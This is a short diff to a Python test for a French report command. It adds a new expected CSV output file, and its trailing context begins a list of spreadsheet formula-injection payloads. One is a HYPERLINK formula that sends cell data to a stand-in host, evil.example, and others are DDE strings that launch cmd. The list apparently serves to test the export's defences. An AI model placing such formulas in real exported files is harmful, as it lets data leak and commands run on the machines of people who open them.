@@ -81,7 +81,7 @@ def test_make_report_command(tmp_path, sqlite_url):
     assert done.returncode == 0, done.stderr
     assert "1 question(s) sans réponse en 1 groupe(s)" in done.stdout
     assert {p.name for p in (tmp_path / "out").iterdir()} == {
-        "rapport.html", "questions_sans_reponse.csv", "avis.csv", "fiches_a_relire.csv"}
+        "rapport.html", "questions_sans_reponse.csv", "avis.csv", "fiches_a_relire.csv", "parametres_a_confirmer.csv"}
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"aide")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
